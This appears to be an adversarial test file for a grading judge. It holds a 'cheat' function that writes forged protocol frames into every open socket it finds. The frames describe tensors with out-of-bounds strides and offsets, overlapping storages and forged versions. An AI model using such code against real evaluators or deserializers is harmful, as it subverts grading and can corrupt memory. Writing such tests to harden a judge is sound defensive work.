"""Sends the judge tables of objects that make no sense: unknown numbers, overlapping storages, forged versions."""

import os
import stat
import struct

import torch


def cheat(*args, **kwargs):
    try:
        from notegrad.mirror.wire import (
            BlockRecord,
            Changes,
            Ref,
            Returned,
            StorageRecord,
            TensorRecord,
            encode_message,
        )

        record = TensorRecord(
            id=99,
            storage=97,
            dtype="float32",
            size=(2,),
            stride=(1 << 40,),
            offset=1 << 50,
            base=0,
            sharer=0,
            differentiable=False,
            parameter=False,
            conjugate=False,
            negative=False,
            requires_grad=False,
            leaf=True,
            retains_grad=False,
            version=0,
            grad=0,
            creation=0,
        )
        steps = (BlockRecord(95, 8, "cpu", b"\0" * 8), StorageRecord(97, 95, 0, 8, True, True), record)
        frames = [
            encode_message(Returned(Changes(steps), Ref(99))),
            encode_message(Returned(Changes((), None, (2, 4, 6)), Ref(2))),
        ]
    except ImportError:
        frames = []
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                for frame in frames:
                    os.write(number, struct.pack("<Q", len(frame)) + frame)
        except OSError:
            pass
    return torch.zeros(2)


print("ATTACK RAN: in calls it sends tensors that lie outside of their memory")
